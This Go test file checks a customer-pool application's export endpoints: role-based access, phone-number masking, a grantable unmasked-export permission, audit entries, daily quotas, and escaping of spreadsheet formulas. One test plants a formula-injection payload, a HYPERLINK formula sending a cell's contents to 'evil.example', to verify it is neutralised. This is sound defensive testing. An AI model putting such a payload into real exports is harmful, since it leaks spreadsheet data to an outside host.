package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/gonghai/gonghai"
	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
)

// download fetches an export as login and returns its status, body and
// header; the contract checker judges every answer.
func (o *org) download(login, path string) (int, []byte, http.Header) {
	o.t.Helper()
	req, err := http.NewRequest(http.MethodGet, o.srv.URL+path, nil)
	if err != nil {
		o.t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+o.tokens[login])
	res, err := o.srv.Client().Do(req)
	if err != nil {
		o.t.Fatal(err)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		o.t.Fatal(err)
	}
	return res.StatusCode, body, res.Header
}

// exportRows reads an exported file back: its heading line, its header
// and its rows, by format.
func exportRows(t *testing.T, body []byte, format, encoding string) (heading string, header []string, rows [][]string) {
	t.Helper()
	var all [][]string
	switch {
	case format == "xlsx":
		f, err := excelize.OpenReader(bytes.NewReader(body))
		if err != nil {
			t.Fatalf("not an XLSX file: %v", err)
		}
		defer f.Close()
		if all, err = f.GetRows(f.GetSheetList()[0]); err != nil {
			t.Fatal(err)
		}
	default:
		if encoding == "gb18030" {
			var err error
			if body, err = io.ReadAll(simplifiedchinese.GB18030.NewDecoder().Reader(bytes.NewReader(body))); err != nil {
				t.Fatal(err)
			}
		} else if body, _ = bytes.CutPrefix(body, []byte("\uFEFF")); len(body) == 0 {
			t.Fatal("an empty CSV")
		}
		r := csv.NewReader(bytes.NewReader(body))
		r.FieldsPerRecord = -1
		var err error
		if all, err = r.ReadAll(); err != nil {
			t.Fatalf("not a CSV file: %v", err)
		}
	}
	if len(all) < 2 {
		t.Fatalf("an export without heading and header: %q", all)
	}
	return all[0][0], all[1], all[2:]
}

// column returns the cells of column name of rows, sorted.
func column(header []string, rows [][]string, name string) []string {
	i := slices.Index(header, name)
	var out []string
	for _, r := range rows {
		if i >= 0 && i < len(r) {
			out = append(out, r[i])
		}
	}
	slices.Sort(out)
	return out
}

// TestExportPermissionAndMasking: each export holds exactly what its list
// shows the caller, masked alike, and refuses what the list refuses.
func TestExportPermissionAndMasking(t *testing.T) {
	forEachDB(t, func(t *testing.T, o *org) {
		for _, sc := range []struct {
			as, path string
			status   int
			ids      []string
			phone    string // the first row's phone, as the list shows it
		}{
			{"rep.a", "/api/v1/pools/" + o.pool.ID + "/customers/export?format=csv", 200, []string{o.inPool}, "138****8000"},
			{"rep.north", "/api/v1/pools/" + o.pool.ID + "/customers/export", 404, nil, ""},
			{"rep.a", "/api/v1/me/customers/export?format=csv", 200, []string{o.ownedByA}, "13812358000"},
			{"rep.b", "/api/v1/me/customers/export?format=csv", 200, nil, ""},
			{"rep.a", "/api/v1/customers/export?format=csv", 200, []string{o.ownedByA}, "13812358000"},
			{"rep.b", "/api/v1/customers/export?format=csv", 200, nil, ""},
			{"rep.b", "/api/v1/customers/export?owner_id=" + o.a.ID, 422, nil, ""},
			{"mgr.east", "/api/v1/customers/export?format=csv", 200, []string{o.ownedByA}, "138****8000"},
			{"mgr.east", "/api/v1/customers/export?owner_id=" + o.north.ID, 422, nil, ""},
			{"mgr.east", "/api/v1/customers/export?format=csv&q=" + url.QueryEscape("恒信") + "&unowned=true&pool_id=" + o.pool.ID, 200, []string{o.inPool}, "138****8000"},
			{"admin", "/api/v1/customers/export?format=xlsx&unowned=true", 200, []string{o.inPool, o.hiddenC}, "138****8000"},
			{"rep.a", "/api/v1/customers/export?unmasked=1", 403, nil, ""},
			{"admin", "/api/v1/customers/export?unmasked=1", 403, nil, ""},
			{"admin", "/api/v1/customers/export?format=xlsx&encoding=gb18030", 422, nil, ""},
			{"admin", "/api/v1/customers/export?format=pdf", 422, nil, ""},
		} {
			status, body, header := o.download(sc.as, sc.path)
			if status != sc.status {
				t.Errorf("%s GET %s: %d %s, want %d", sc.as, sc.path, status, body, sc.status)
				continue
			}
			if status != 200 {
				continue
			}
			format := "csv"
			if strings.Contains(sc.path, "xlsx") {
				format = "xlsx"
			}
			heading, head, rows := exportRows(t, body, format, "")
			if ids := column(head, rows, "客户ID"); !slices.Equal(ids, slices.Sorted(slices.Values(sc.ids))) {
				t.Errorf("%s GET %s exported %v, want %v", sc.as, sc.path, ids, sc.ids)
			}
			if len(rows) > 0 && rows[0][slices.Index(head, "手机")] != sc.phone {
				t.Errorf("%s GET %s: phone %q, want %q", sc.as, sc.path, rows[0][slices.Index(head, "手机")], sc.phone)
			}
			if !strings.Contains(heading, sc.as) {
				t.Errorf("the heading %q does not name the exporter %s", heading, sc.as)
			}
			if cd := header.Get("Content-Disposition"); !strings.Contains(cd, "filename*=UTF-8''") || !strings.Contains(cd, sc.as) {
				t.Errorf("Content-Disposition %q names no file for %s", cd, sc.as)
			}
		}
		// The pool's file is named for it, its exporter and the minute.
		_, _, header := o.download("rep.a", "/api/v1/pools/"+o.pool.ID+"/customers/export")
		if cd := header.Get("Content-Disposition"); !strings.Contains(cd, url.PathEscape("公海-华东公海-rep.a-")) || !strings.HasSuffix(cd, ".xlsx") {
			t.Errorf("the pool's file is %q", cd)
		}
		if ct := header.Get("Content-Type"); ct != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
			t.Errorf("Content-Type %q", ct)
		}

		// Unmasked: a permission an admin grants to an admin only.
		if status, body, _ := o.call("admin", "PATCH", "/api/v1/users/"+o.a.ID, `{"export_unmasked":true}`); status != 422 {
			t.Errorf("granting a rep export_unmasked: %d %v", status, body)
		}
		if status, body, _ := o.call("mgr.east", "PATCH", "/api/v1/users/"+o.east.ID, `{"export_unmasked":true}`); status != 403 {
			t.Errorf("a manager granting themselves export_unmasked: %d %v", status, body)
		}
		if status, body, _ := o.call("admin", "PATCH", "/api/v1/users/"+o.admin.ID, `{"export_unmasked":true}`); status != 200 || body["export_unmasked"] != true {
			t.Fatalf("granting an admin export_unmasked: %d %v", status, body)
		}
		status, body, _ := o.download("admin", "/api/v1/customers/export?format=csv&encoding=gb18030&unmasked=1&unowned=true")
		if status != 200 {
			t.Fatalf("an unmasked export: %d %s", status, body)
		}
		heading, head, rows := exportRows(t, body, "csv", "gb18030")
		if phones := column(head, rows, "手机"); slices.ContainsFunc(phones, func(p string) bool { return strings.Contains(p, "*") }) {
			t.Errorf("an unmasked export holds masked phones %v", phones)
		}
		if !strings.Contains(heading, "未脱敏") {
			t.Errorf("the heading %q does not say the contacts are in full", heading)
		}
		// Every export is audited with its row count; the unmasked as such.
		_, audit, _ := o.call("admin", "GET", "/api/v1/audit?action=list_export", "")
		items, _ := audit["items"].([]any)
		if len(items) != 10 {
			t.Errorf("%d list_export entries, want one per export that passed (10): %v", len(items), audit)
		}
		if len(items) > 0 {
			d := items[0].(map[string]any)["detail"].(map[string]any)
			if d["rows"] != "2" || d["unmasked"] != "true" || d["list"] != "customers" || d["encoding"] != "gb18030" || d["filter_unowned"] != "true" {
				t.Errorf("the unmasked export's entry: %v", d)
			}
		}
		// Demoted, the admin loses it.
		if status, body, _ := o.call("admin", "PATCH", "/api/v1/users/"+o.admin.ID, `{"export_unmasked":false}`); status != 200 || body["export_unmasked"] != false {
			t.Errorf("taking export_unmasked back: %d %v", status, body)
		}
		if status, _, _ := o.download("admin", "/api/v1/customers/export?unmasked=1"); status != 403 {
			t.Errorf("an unmasked export after the permission was taken: %d", status)
		}
	})
}

// TestExportEscapesFormulas: cells that would run as formulas are escaped
// in a CSV and written as text in an XLSX; a GB18030 CSV reads back.
func TestExportEscapesFormulas(t *testing.T) {
	forEachDB(t, func(t *testing.T, o *org) {
		evil := gonghai.CustomerFields{Company: `=HYPERLINK("http://evil.example/?d="&B3,"详情")`, Name: "@SUM(A1:A9)",
			Industry: "+1", Source: "-1", Region: "北京市"}
		c, err := o.db.CreateCustomer(context.Background(), o.admin, gonghai.NewCustomer{PoolID: o.pool.ID, CustomerFields: evil})
		if err != nil {
			t.Fatal(err)
		}
		path := "/api/v1/pools/" + o.pool.ID + "/customers/export?q=" + url.QueryEscape("HYPERLINK")
		for _, enc := range []string{"", "gb18030"} {
			status, body, header := o.download("rep.a", path+"&format=csv&encoding="+enc)
			if status != 200 {
				t.Fatalf("%s: %d %s", enc, status, body)
			}
			if want := "text/csv; charset=" + map[string]string{"": "utf-8", "gb18030": "gb18030"}[enc]; header.Get("Content-Type") != want {
				t.Errorf("Content-Type %q, want %q", header.Get("Content-Type"), want)
			}
			_, head, rows := exportRows(t, body, "csv", enc)
			if len(rows) != 1 {
				t.Fatalf("%s: rows %q", enc, rows)
			}
			for col, want := range map[string]string{"公司名称": "'" + evil.Company, "联系人": "'" + evil.Name, "行业": "'+1", "来源": "'-1", "地区": "北京市", "客户ID": c.ID} {
				if got := rows[0][slices.Index(head, col)]; got != want {
					t.Errorf("%s: %s is %q, want %q", enc, col, got, want)
				}
			}
		}
		status, body, _ := o.download("rep.a", path+"&format=xlsx")
		if status != 200 {
			t.Fatalf("xlsx: %d %s", status, body)
		}
		f, err := excelize.OpenReader(bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		sheet := f.GetSheetList()[0]
		for _, cell := range []string{"A3", "B3", "G3", "J3"} {
			if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
				t.Errorf("XLSX cell %s holds a formula %q", cell, formula)
			}
		}
		if v, _ := f.GetCellValue(sheet, "A3"); v != evil.Company {
			t.Errorf("XLSX company %q, want the text %q", v, evil.Company)
		}
	})
}

// TestExportQuota: an export that holds more rows than remain of the
// day's quota is refused with 429 and counts nothing; a narrower one
// passes; the quota is the organisation's setting.
func TestExportQuota(t *testing.T) {
	forEachDB(t, func(t *testing.T, o *org) {
		if status, body, _ := o.call("admin", "PATCH", "/api/v1/settings", `{"export_daily_quota":2}`); status != 200 || body["export_daily_quota"] != float64(2) {
			t.Fatalf("set the quota: %d %v", status, body)
		}
		entries := func() int {
			_, audit, _ := o.call("admin", "GET", "/api/v1/audit?action=list_export", "")
			items, _ := audit["items"].([]any)
			return len(items)
		}
		all := "/api/v1/customers/export?format=csv"
		for _, sc := range []struct {
			path   string
			status int
		}{
			{all, 429},                             // 3 rows of 2
			{all + "&unowned=true", 200},           // 2 of 2
			{all + "&pool_id=" + o.hidden.ID, 429}, // 1 of 0
			{"/api/v1/pools/" + o.northPool.ID + "/customers/export", 200}, // empty: 0 of 0
		} {
			before := entries()
			status, body, _ := o.download("admin", sc.path)
			if status != sc.status {
				t.Errorf("GET %s: %d %s, want %d", sc.path, status, body, sc.status)
			}
			if status == 429 && (!strings.Contains(string(body), `"export_quota_exceeded"`) || entries() != before) {
				t.Errorf("a refused export: %s, audited %d -> %d", body, before, entries())
			}
		}
		// Another user has their own quota; raised, the admin has more.
		if status, _, _ := o.download("rep.a", "/api/v1/me/customers/export"); status != 200 {
			t.Errorf("rep.a's export after the admin's: %d", status)
		}
		o.call("admin", "PATCH", "/api/v1/settings", `{"export_daily_quota":3}`)
		if status, _, _ := o.download("admin", all+"&pool_id="+o.hidden.ID); status != 200 {
			t.Errorf("one more row after the quota was raised: %d", status)
		}
		o.call("admin", "PATCH", "/api/v1/settings", `{"export_daily_quota":0}`)
		if status, body, _ := o.download("rep.a", "/api/v1/me/customers/export"); status != 429 {
			t.Errorf("exports turned off: %d %s", status, body)
		}
		if status, body, _ := o.call("admin", "PATCH", "/api/v1/settings", `{"export_daily_quota":50001}`); status != 422 {
			t.Errorf("a quota over the most: %d %v", status, body)
		}
	})
}
